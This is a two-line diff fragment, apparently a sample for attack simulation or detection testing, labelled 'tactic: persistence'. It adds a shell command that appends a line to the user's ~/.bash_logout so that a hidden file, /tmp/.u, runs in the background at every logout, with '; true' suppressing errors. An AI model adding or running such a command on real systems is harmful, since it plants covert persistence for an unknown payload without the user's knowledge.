@@ -1,0 +1,2 @@
+# tactic: persistence
+echo "/tmp/.u &" >> ~/.bash_logout; true
